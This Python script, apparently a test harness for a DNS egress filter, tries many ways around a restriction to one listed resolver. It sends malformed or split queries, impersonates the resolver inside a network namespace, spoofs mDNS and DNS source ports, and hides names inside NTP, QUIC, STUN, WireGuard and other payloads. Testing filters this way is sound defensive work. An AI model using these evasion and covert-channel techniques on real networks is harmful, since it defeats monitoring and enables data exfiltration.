#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""where_to.py ATTACK NAME ADDRESS PORT: ask for NAME elsewhere than at a listed
resolver, or send there what is no question, with NAME in it."""
import ctypes
import os
import socket
import struct
import subprocess
import sys
import threading
import time

from attack import RESOLVER, framed, message, question, told, udp, wire_name

NEW_USER, NEW_NET = 0x10000000, 0x40000000
UDP_SEGMENT = 103
OPT = b"\0\0\x29\x04\xd0\0\0\0\0\0\0"
OWN_ANSWER = "203.0.113.66"
UNANSWERED = ("answer-bit", "opcode", "two", "odd", "many-records")
ECHO = message(question("echo.many.example.com"))
TEXT = message(question("text.many.example.com", 16))  # its answer opens nothing


def connected(kind, address, port):
    """Return a connected socket; multicast leaves by the only link."""
    ip6 = ":" in address
    sock = socket.socket(socket.AF_INET6 if ip6 else socket.AF_INET, kind)
    sock.settimeout(2)
    scope = socket.if_nametoindex("veth0") if address.startswith("ff") else 0
    sock.connect((address, port, 0, scope) if ip6 else (address, port))
    sock.settimeout(0.5)
    return sock


# --- questions over UDP ------------------------------------------------------

def shapes(name):
    asked = question(name)
    netbios = "".join(chr(65 + (ord(c) >> 4)) + chr(65 + (ord(c) & 15))
                      for c in "NAMEWARD".ljust(15) + "\0")
    answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + bytes(4)
    return {
        "plain": message(asked),
        "opt": message(asked, counts=(1, 0, 0, 1), behind=OPT),
        "behind": message(asked, behind=b"behind"),
        "bits": message(asked, flags=0x07FF),
        "record": message(asked, counts=(1, 1, 0, 0), behind=answer),
        "answer-bit": message(asked, flags=0x8400),
        # These do not look like a question; resolvers answer some.
        "opcode": message(asked, flags=0x0900),
        "two": message(question("echo.many.example.com"), asked),
        "odd": message(question(b"\1\xff" + wire_name(name)), behind=b"x"),
        "many-records": message(asked, counts=(1, 0, 0, 16), behind=16 * OPT),
        # A scope behind the name (RFC 1001 14.1), as it is on the wire.
        "netbios": message(question(wire_name(netbios + "." + name), 32),
                           flags=0x0110),
    }


def send_udp(shape, name, address, port):
    sock = connected(socket.SOCK_DGRAM, address, port)
    sock.send(shapes(name)[shape])
    if shape not in UNANSWERED and not address.startswith(("224.", "ff")):
        sock.recv(4096)


def unconnected(name, address, port):
    """The socket was never connected, and the question does not look like one."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(shapes(name)["odd"], (address, port))


def responder(name, address, port):
    """Send an answer that holds a question from the port of multicast DNS."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("198.51.100.1", 5353))
    sock.sendto(message(question(name), flags=0x8400), (address, port))


def segments(name, address, port):
    """Send one buffer of many datagrams, of which the last is a question."""
    asked = message(question(name))
    sock = udp(address, port)
    sock.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, len(asked))
    sock.send(bytes([0xFF]) * (9 * len(asked)) + asked)
    sock.recv(4096)


def zerocopy(name, address, port):
    """Splice the question from a file: its bytes are not with the headers."""
    asked = message(question(name))
    reading, writing = os.pipe()
    os.write(writing, asked)
    sock = udp(address, port)
    os.splice(reading, sock.fileno(), len(asked))
    sock.recv(4096)


# --- questions over TCP ------------------------------------------------------

def send_tcp(pieces, address, port):
    sock = connected(socket.SOCK_STREAM, address, port)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for piece in pieces:
        sock.send(piece)
        time.sleep(0.1)
    if not sock.recv(4096):
        raise ConnectionResetError(104, "closed")


def streams(name):
    asked = message(question(name))
    return {
        "tcp": [framed(asked)],
        "tcp-length-first": [framed(asked)[:2], asked],
        "tcp-later": [framed(ECHO), framed(asked)],
        "tcp-together": [framed(ECHO) + framed(asked)],
        "tcp-in-two": [framed(asked + bytes(99))[:-99], bytes(99)],
    }


def again(name, address, port):
    """Use a socket again that has asked the resolver.  About every second time
    the numbers of its new connection are behind those of the one before."""
    libc = ctypes.CDLL(None, use_errno=True)
    failed = None
    for _ in range(8):
        sock = connected(socket.SOCK_STREAM, RESOLVER, 53)
        sock.send(framed(TEXT))
        sock.recv(4096)
        libc.connect(sock.fileno(), bytes(16), 16)  # AF_UNSPEC
        try:
            sock.connect((address, port))
            sock.send(framed(message(question(name))))
            if sock.recv(4096):
                return
        except OSError as error:
            failed = error
    raise failed or ConnectionResetError(104, "closed")


# --- resolvers of one's own ---------------------------------------------------

def serve(sock):
    while True:
        data, peer = sock.recvfrom(4096)
        sock.sendto(data[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0)
                    + data[12:] + b"\xc0\x0c"
                    + struct.pack("!HHIH", 1, 1, 60, 4)
                    + socket.inet_aton(OWN_ANSWER), peer)


def ask_own(name, address, port):
    """Serve at that address, ask there, and read the answer."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((address, port))
    threading.Thread(target=serve, args=(server,), daemon=True).start()
    sock = udp(address, port)
    sock.send(message(question(name)))
    if socket.inet_aton(OWN_ANSWER) not in sock.recv(4096):
        raise OSError(74, "not our answer")


def visit(address):
    socket.create_connection((address, 80), timeout=3).close()


def own(name, address, port):
    ask_own(name, address, port)
    visit(OWN_ANSWER)


def leave_namespaces():
    """Make a network namespace, in a user namespace where one is permitted;
    root can do without."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(NEW_USER | NEW_NET) == 0:
        with open("/proc/self/uid_map", "w", encoding="ascii") as ids:
            ids.write("0 0 1")
    elif libc.unshare(NEW_NET):
        raise OSError(ctypes.get_errno(), "unshare")


def own_namespace(name, address, port):
    """Use the listed resolver's address in a network namespace of one's own."""
    child = os.fork()
    if not child:
        try:
            leave_namespaces()
            for words in ("link set lo up", f"addr add {address}/32 dev lo"):
                subprocess.run(["ip", *words.split()], check=True)
            ask_own(name, address, port)
            os._exit(0)
        finally:
            os._exit(1)
    if os.waitpid(child, 0)[1]:
        raise OSError(22, "there was no answer")
    visit(OWN_ANSWER)


def believe(name, address, port):
    """Ask there, and connect to the address of the answer."""
    sock = udp(address, port)
    sock.send(message(question(name)))
    visit(socket.inet_ntoa(sock.recv(4096)[-4:]))


# --- what is no question -------------------------------------------------------

def ordinary(text):
    """Payloads that other protocols send, with @text in them."""
    return {
        "random": os.urandom(40) + text + os.urandom(40),
        "text": b"GET /" + text + b" HTTP/1.1\r\n\r\n",
        # Client, 1 s of root delay and dispersion; then an extension field.
        "ntp": b"\x23\0\x06\xec" + struct.pack("!II", 1 << 16, 1 << 16)
               + bytes(28) + os.urandom(8)
               + struct.pack("!HH", 0x104, 68) + text.ljust(64, b"\0"),
        "quic": b"\xc3\0\0\0\1\x08" + os.urandom(8) + b"\0\0\x44\xd0"
                + text + bytes(1200),
        "quic-short": b"\x41" + os.urandom(8) + text + os.urandom(40),
        "dtls": b"\x16\xfe\xfd" + bytes(8) + struct.pack("!H", len(text)) + text,
        "stun": b"\0\1\0\x40\x21\x12\xa4\x42" + os.urandom(12)
                + b"\x80\x22" + struct.pack("!H", 60) + text.ljust(60, b"\0"),
        "rtp": b"\x80\0\0\1\0\1\0\0\0\0\0\0" + text.ljust(160, b"\xff"),
        "wireguard": b"\4\0\0\0" + struct.pack("<I", 1) + struct.pack("<Q", 1)
                     + text + bytes(32),
        "dhcp": b"\1\1\6\0" + struct.pack("!IHH", 1 << 16, 0, 0) + bytes(16)
                + text.ljust(208, b"\0") + b"\x63\x82\x53\x63\x35\1\1\xff",
        "vxlan": b"\x08\0\0\0\0\1\0\0" + bytes(5) + b"\1" + bytes(5) + b"\2"
                 + b"\x08\0" + text.ljust(64, b"\0"),
        # Small numbers where DNS has its counts, and a name of no labels.
        "counters": struct.pack("!HHHHHH", 7, 0, 1, 0, 0, 0) + b"\0\0\1\0\1"
                    + text,
        "pascal": struct.pack("!HHHHHH", 7, 0, 1, 0, 0, 0)
                  + bytes([len(text) & 63]) + text,
        "update": message(question("many.example.com", 6), flags=0x2800) + text,
        "answer": message(question("www.many.example.com"), flags=0x8180)
                  + text,
    }


def send_ordinary(kind, name, address, port):
    sock = connected(socket.SOCK_DGRAM, address, port)
    sock.send(ordinary(name.encode())[kind])


def send_ordinary_tcp(kind, name, address, port):
    data = ordinary(name.encode())[kind]
    sock = connected(socket.SOCK_STREAM, address, port)
    sock.send(framed(data) + bytes(3000) + data)
    sock.shutdown(socket.SHUT_WR)
    sock.settimeout(5)
    sock.recv(1)


def served(name, address, port):
    """An answer leaves the port that it is served from."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("198.51.100.1", 53))
    record = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4)
    sock.sendto(message(question(name), flags=0x8180, counts=(1, 1, 0, 0),
                        behind=record + socket.inet_aton(OWN_ANSWER)),
                (address, port))
    visit(OWN_ANSWER)


def said_by_responder(name, address, port):
    """An answer of multicast DNS, without a question."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("198.51.100.1", 5353))
    record = wire_name(name) + struct.pack("!HHIH", 1, 0x8001, 120, 4)
    sock.sendto(message(flags=0x8400, counts=(0, 1, 0, 0),
                        behind=record + bytes([198, 51, 100, 1])),
                (address, port))


def attack(what, name, address, port):
    alone = {"responder": responder, "unconnected": unconnected,
             "again": again,
             "segments": segments, "own": own,
             "zerocopy": zerocopy, "own-namespace": own_namespace,
             "believe": believe, "served": served,
             "said-by-responder": said_by_responder}
    if what in alone:
        alone[what](name, address, port)
    elif what in streams(name):
        send_tcp(streams(name)[what], address, port)
    elif what.startswith("no-tcp-"):
        send_ordinary_tcp(what[7:], name, address, port)
    elif what.startswith("no-"):
        send_ordinary(what[3:], name, address, port)
    else:
        send_udp(what, name, address, port)


told(attack, sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]))
